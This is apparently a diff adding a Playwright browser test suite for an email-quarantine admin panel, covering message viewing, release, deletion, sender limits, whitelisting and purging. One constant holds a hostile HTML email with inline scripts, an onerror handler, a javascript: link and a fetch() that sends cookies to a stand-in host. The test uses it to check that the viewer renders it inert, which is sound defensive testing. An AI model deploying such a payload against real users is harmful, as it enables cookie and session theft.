@@ -1,0 +1,265 @@
+"""The pages in real Chromium (Debian's, driven by Playwright) against the real gunicorn, through the
+sandbox's loopback listener. Each test saves a screenshot ($IE_SCREENSHOTS, default /tmp/ie-screenshots;
+``make screenshots`` writes the README's into docs/screenshots)."""
+import json
+import pwd
+import re
+from email.message import EmailMessage
+
+import pytest
+from playwright.sync_api import sync_playwright
+
+from devtools import samples
+
+from .conftest import EXIM_USER, SCREENSHOTS
+
+CHROMIUM = "/usr/bin/chromium"
+FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
+         "--disable-component-update", "--disable-sync", "--disable-default-apps"]
+HOSTILE_HTML = """<html><head><script>window.__pwned = 'head';</script></head><body>
+<p>Dear customer, your invoice is attached.</p>
+<script>window.__pwned = 'body'; fetch('http://remote.example/steal?c=' + document.cookie);</script>
+<img src="x" onerror="window.__pwned = 'onerror'">
+<img src="http://remote.example/track.png" alt="tracker">
+<a href="javascript:window.__pwned='link'">Click here</a>
+</body></html>"""
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield b
+        b.close()
+
+
+class Tab:
+    """One browser tab that records what it loaded and what the console said."""
+
+    def __init__(self, browser, site, javascript: bool = True):
+        self.site = site
+        self.context = browser.new_context(viewport={"width": 1440, "height": 900}, java_script_enabled=javascript)
+        self.page = self.context.new_page()
+        self.requests, self.console = [], []
+        self.page.on("request", lambda r: self.requests.append(r.url))
+        self.page.on("console", lambda m: self.console.append((m.type, m.text)))
+
+    def be(self, who: str) -> "Tab":
+        """Choose who we are in the sandbox's chooser."""
+        self.page.goto(self.site.web.url + "/")
+        label = "WHM (root)" if who == "root" else f"cPanel account {who}"
+        self.page.get_by_role("button", name=label).click()
+        return self
+
+    def shot(self, name: str) -> None:
+        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+        self.page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)
+
+    def only_local_requests(self) -> None:
+        foreign = [u for u in self.requests if not u.startswith(self.site.web.url)]
+        assert foreign == [], foreign
+
+    def close(self) -> None:
+        self.context.close()
+
+
+@pytest.fixture
+def tab(browser, site):
+    t = Tab(browser, site)
+    yield t
+    t.close()
+
+
+@pytest.fixture(scope="module")
+def scenery(site):
+    """Mail of every kind, so the pages show what an administrator meets (and the README's pictures)."""
+    root = site.root
+    root.cli("am", "server-settings", "set", "--sender-email", "3")
+    for n in range(5):   # three pass, two over the sender limit
+        sender = "newsletter@demo2.test"
+        root.send(samples.ham(sender=sender, subject=f"Weekly news {n}"), sender=sender)
+    for n in range(2):
+        sender = "billing@demo1.test"
+        root.send(samples.gtube(sender=sender, subject=f"Cheap meds, offer {n}"), sender=sender)
+    sender = "office@demo1.test"
+    root.send(samples.with_exe(sender=sender, subject="Scanned documents"), sender=sender)
+    root.send(samples.ham(sender="wp@demo1.test", subject="Order confirmation",
+                          extra_headers=[("X-PHP-Script", "demo1.test/shop/mailer.php for 198.51.100.7")]),
+              sender="wp@demo1.test")
+    root.cli("am", "server-settings", "set", "--sender-email", "0")
+    newsletter = am_object(site, "sender_email", "newsletter@demo2.test")   # keeps a limit of its own: 3
+    root.cli("am", "limit", "set", "--id", newsletter["id"], "--so-type", "sender_email", "--limit", "3")
+    return root
+
+
+def hostile_message(sender: str, subject: str) -> bytes:
+    msg = EmailMessage()
+    msg["From"], msg["To"], msg["Subject"] = sender, "victim@remote.example", subject
+    msg.set_content(HOSTILE_HTML, subtype="html")   # HTML only: the Body view must reduce it to text
+    return bytes(msg)
+
+
+def test_view_email_shows_hostile_html_as_text_runs_nothing_loads_nothing_remote(tab, site, scenery):
+    [email_id] = site.hold("demo1", "hostile", 1,
+                           raw_of=lambda n: hostile_message("hostile@demo1.test", "hostile <b>invoice</b>"))
+    tab.be("root")
+    page = tab.page
+    tab.shot("quarantine")
+    page.get_by_label("Search").fill("hostile")
+    page.get_by_role("button", name="Apply").click()
+    tab.shot("quarantine-search")
+    row = page.locator("tr", has_text="hostile <b>invoice</b>")
+    row.get_by_role("link", name="View Email").click()
+    body = page.locator("pre.text").inner_text()
+    assert "Dear customer, your invoice is attached." in body and "Click here" in body
+    assert "<" not in body and "__pwned" not in body   # tags gone, scripts gone with them
+    tab.shot("email-body")
+    for view in ("Header", "Plain text"):
+        page.get_by_role("link", name=view, exact=True).click()
+        tab.shot(f"email-{view.split()[0].lower()}")
+    raw = page.locator("pre.text").inner_text()
+    assert "<script>" in raw and "onerror" in raw and "remote.example/track.png" in raw   # shown as text ...
+    assert page.evaluate("typeof window.__pwned") == "undefined"          # ... and never run
+    assert page.locator("img[src*='remote.example'], script").count() == 0
+    tab.only_local_requests()
+    assert not [m for m in tab.console if m[0] == "error"], tab.console
+    assert email_id in page.url
+
+
+def test_multi_select_release_and_send_of_three_without_javascript(browser, site):
+    ids = site.hold("demo2", "multirel", 3)
+    tab = Tab(browser, site, javascript=False).be("root")
+    try:
+        page = tab.page
+        page.get_by_label("Search").fill("multirel")
+        page.get_by_role("button", name="Apply").click()
+        for email_id in ids:
+            page.locator(f"input[type=checkbox][value='{email_id}']").check()
+        page.get_by_role("button", name="Release & Send selected").click()
+        assert page.get_by_role("heading").first.inner_text() == "Release & Send 3 email(s)?"
+        tab.shot("release-confirm")
+        page.get_by_role("button", name="Yes, release & send 3 email(s)").click()
+        assert "3 email(s) released and sent" in page.get_by_role("status").inner_text()
+        tab.shot("release-done")
+    finally:
+        tab.close()
+    sent = site.released("multirel")
+    assert sorted(m.header("Subject") for m in sent) == [f"multirel {n}" for n in range(3)]   # once each
+    assert {m.uid for m in sent} == {pwd.getpwnam(EXIM_USER).pw_uid}   # as the Exim user
+    assert all(m.argv[:3] == ["-oi", "-oMr", "imunifyemail-released"] for m in sent)
+    assert site.root.held(subject="multirel") == []
+
+
+def test_delete(tab, site):
+    [email_id] = site.hold("demo1", "deleteme", 1)
+    tab.be("root")
+    page = tab.page
+    page.get_by_label("Search").fill("deleteme")
+    page.get_by_role("button", name="Apply").click()
+    page.locator("tr", has_text="deleteme 0").get_by_role("button", name="Delete").click()
+    page.get_by_role("button", name="Yes, delete 1 email(s)").click()
+    assert "1 email(s) deleted permanently" in page.get_by_role("status").inner_text()
+    tab.shot("deleted")
+    assert site.root.held(subject="deleteme") == [] and site.released("deleteme") == []
+
+
+def am_object(site, so_type: str, name: str) -> dict:
+    stats = json.loads(site.root.cli("am", "stats", "--since", "86400", "--limit", "1000").stdout)
+    for account in stats["accounts"]:
+        for item in [account, *(account["domains"] or []), *(account["scripts"] or []),
+                     *[s for d in account["domains"] or [] for s in d["sender_emails"] or []]]:
+            if item["name"] == name and (so_type != "account" or item is account):
+                return item
+    raise AssertionError(f"no {so_type} {name} in am stats")
+
+
+def test_activity_monitor_update_sender_limit(tab, site, scenery):
+    tab.be("root")
+    page = tab.page
+    page.get_by_role("link", name="Activity Monitor").click()
+    assert page.locator("svg.chart rect.sent").count() > 0
+    tab.shot("activity")
+    row = page.locator("tr", has_text="newsletter@demo2.test")
+    assert "⚠" in row.inner_text()   # over its limit in the last hour: red, with a warning sign
+    row.get_by_role("link", name="Update sender limit").click()
+    page.get_by_label("Use a limit of its own").check()
+    page.get_by_label("Limit per hour (0 = unlimited)").fill("7")
+    tab.shot("sender-limit")
+    page.get_by_role("button", name="Save").click()
+    assert "Sender limit updated" in page.get_by_role("status").inner_text()
+    item = am_object(site, "sender_email", "newsletter@demo2.test")
+    assert (item["exclusion"], item["limit"]) == (True, 7)
+    page.locator("tr", has_text="newsletter@demo2.test").get_by_role("link", name="Update sender limit").click()
+    page.get_by_label("Use a limit of its own").uncheck()
+    page.get_by_role("button", name="Save").click()
+    assert am_object(site, "sender_email", "newsletter@demo2.test")["exclusion"] is False
+
+
+def test_whitelist_a_domain_with_the_confirmation(tab, site, scenery):
+    tab.be("root")
+    page = tab.page
+    page.get_by_role("link", name="Activity Monitor").click()
+    row = page.locator("tr.depth-1", has_text="demo2.test").first
+    row.get_by_role("link", name="Whitelist sender").click()
+    tab.shot("whitelist-confirm")
+    page.get_by_role("button", name="Yes, add to whitelist").click()
+    assert "Added to the sender whitelist" in page.get_by_role("status").inner_text()
+    listed = json.loads(site.root.cli("whitelist", "sender", "list", "--json").stdout)
+    assert "demo2.test" in listed["domains"]
+    assert am_object(site, "domain", "demo2.test")["whitelisted"] is True
+    page.locator("tr.depth-1", has_text="demo2.test").first.get_by_role("link", name="Remove from whitelist").click()
+    page.get_by_role("button", name="Yes, remove from whitelist").click()
+    assert "demo2.test" not in json.loads(site.root.cli("whitelist", "sender", "list", "--json").stdout)["domains"]
+
+
+def test_settings_purge_an_account(tab, site, scenery):
+    site.hold("demo2", "purgeme", 2)
+    tab.be("root")
+    page = tab.page
+    page.get_by_role("link", name="Settings").click()
+    tab.shot("settings")
+    page.locator("tr", has_text="demo2").get_by_role("link", name="Purge quarantine").click()
+    page.get_by_role("button", name="Yes, purge quarantine").click()
+    assert re.search(r"Quarantine purged: \d+ email\(s\) deleted", page.get_by_role("status").inner_text())
+    assert site.root.held("demo2") == []
+    assert [m.account for m in site.root.held()] and all(m.account != "demo2" for m in site.root.held())
+
+
+def test_settings_change_limits_and_a_bad_value_changes_nothing(tab, site):
+    tab.be("root")
+    page = tab.page
+    page.get_by_role("link", name="Settings").click()
+    page.get_by_label("Domain").fill("250")
+    page.get_by_label("number of recipients").check()
+    page.locator("form", has=page.get_by_label("Domain")).get_by_role("button", name="Save Changes").click()
+    assert "Changes saved" in page.get_by_role("status").inner_text()
+    assert json.loads(site.root.cli("am", "server-settings").stdout) == {
+        "account": 0, "domain": 250, "limit_mode": 2, "script": 0, "sender_email": 0}
+    page.locator("tr", has_text="demo1").get_by_role("link", name="Change").click()
+    field = page.get_by_label("Releases per hour by its user")
+    field.evaluate("input => input.removeAttribute('max')")   # past the browser's own check: the server's
+    field.fill("100001")
+    page.get_by_role("button", name="Save Changes").click()
+    assert "invalid releases limit 100001" in page.locator("main").inner_text()
+    tab.shot("settings-error")
+    assert json.loads(site.root.cli("accounts", "list", "--json").stdout)["items"][0]["releases_limit"] == 5
+    site.root.cli("am", "server-settings", "set", "--domain", "0", "--limit-mode", "1")
+
+
+def test_the_hosted_users_page(tab, site, scenery):
+    mine = site.hold("demo1", "userpage", 2)
+    site.hold("demo2", "userother", 1)
+    tab.be("demo1")
+    page = tab.page
+    assert "cPanel · demo1" in page.locator("header").inner_text()
+    text = page.locator("main").inner_text()
+    assert "userpage 0" in text and "userother" not in text and "Account" not in page.locator("thead").inner_text()
+    tab.shot("user-quarantine")
+    page.locator("tr", has_text="userpage 1").get_by_role("link", name="View Email").click()
+    page.get_by_role("button", name="Release & Send").click()
+    page.get_by_role("button", name="Yes, release & send 1 email(s)").click()
+    assert "1 email(s) released" in page.get_by_role("status").inner_text()
+    assert [m.header("Subject") for m in site.released("userpage")] == ["userpage 1"]
+    assert [m.email_id for m in site.root.held(subject="userpage")] == [mine[0]]
+    page.goto(site.web.url + "/admin/quarantine")
+    assert "These pages are not for you" in page.locator("main").inner_text()
